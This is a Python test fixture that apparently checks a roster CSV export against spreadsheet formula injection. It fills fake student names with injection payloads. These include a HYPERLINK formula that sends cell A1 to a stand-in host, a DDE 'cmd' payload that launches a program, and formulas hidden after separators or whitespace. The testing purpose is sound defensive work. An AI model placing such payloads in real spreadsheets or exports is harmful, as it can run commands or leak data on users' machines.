"""TRIES: names that a spreadsheet computes: after spaces, in other letters, and after a separator.

MUST: write every name so that it is text, wherever a spreadsheet cuts the line.

ROWS: 23
"""

KIND = "archive"


def pack(folder, arena):
    import csv
    import io

    names = [
        "=HYPERLINK(\"http://x.example/\"&A1;\"click\")", "+1+1", "-2+3", "@SUM(A1)",
        "\uff1d1+1", " =1+1", "\t=1+1", "x\n=1+1", "x;=cmd|'/C calc'!A1;y", "x; =1+1", "x;+1+1",
        "x\t@SUM(A1)", "x,=1+1", 'x";=1+1', "x;\uff0b1+1", "x|=1+1", "x\r=1+1",
    ]  # fmt: skip
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(["student_id", "First name", "Last name", "Email address"])
    writer.writerow(["neighbour", "Nick", "Neighbour", "neighbour@x.edu"])
    for number, name in enumerate(names):
        writer.writerow([f"s{number}", name, "", f"{name}@x.edu"])
    return [], out.getvalue()
